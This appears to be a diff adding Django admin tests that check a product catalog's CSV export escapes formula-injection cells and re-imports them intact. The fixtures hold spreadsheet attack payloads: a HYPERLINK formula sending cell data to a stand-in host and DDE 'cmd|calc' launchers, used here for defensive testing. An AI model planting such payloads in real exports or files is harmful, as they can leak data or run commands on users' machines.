@@ -1,3 +1,5 @@
+import csv
+import io
 from datetime import timedelta
 from decimal import Decimal
 
@@ -458,3 +460,62 @@ def test_the_promotion_form_picks_products_through_autocomplete(client):
     assert 'data-field-name="products"' in html
     assert 'data-field-name="categories"' in html
     assert "admin-autocomplete" in html
+
+
+# --- CSV formula injection ------------------------------------------------------------------------
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _export(client) -> list[list[str]]:
+    response = client.post(
+        reverse("admin:catalog_product_export"),
+        {"format": "0", **{f"productresource_{column}": "on" for column in COLUMNS}},
+    )
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+
+
+def test_the_export_escapes_cells_a_spreadsheet_would_run_as_formulas(client):
+    for n, title in enumerate(FORMULA_TITLES):
+        ProductFactory(sku=f"F-{n}", title=title, brand="=cmd|calc")
+    ProductFactory(sku="PLAIN", title="Blue mug - large", brand="Acme")
+
+    rows = {row[0]: row for row in _export(client)[1:]}
+
+    title, brand = COLUMNS.index("title"), COLUMNS.index("brand")
+    assert [rows[f"F-{n}"][title] for n in range(len(FORMULA_TITLES))] == [
+        f"'{t}" for t in FORMULA_TITLES
+    ]
+    assert rows["F-0"][brand] == "'=cmd|calc"
+    assert (rows["PLAIN"][title], rows["PLAIN"][brand]) == ("Blue mug - large", "Acme")
+
+
+def test_an_escaped_export_imported_back_keeps_the_original_values(client):
+    ProductFactory(sku="-7", title='=HYPERLINK("http://evil.example","x")', brand="@acme")
+    exported = _export(client)
+    Product.objects.all().delete()
+    lines = io.StringIO()
+    csv.writer(lines).writerows(exported[1:])
+
+    preview = client.post(
+        reverse("admin:catalog_product_import"),
+        {"format": "0", "import_file": csv_upload(*lines.getvalue().splitlines())},
+    )
+    client.post(
+        reverse("admin:catalog_product_process_import"),
+        preview.context["confirm_form"].initial,
+    )
+
+    product = Product.objects.get()
+    assert (product.sku, product.title, product.brand) == (
+        "-7",
+        '=HYPERLINK("http://evil.example","x")',
+        "@acme",
+    )
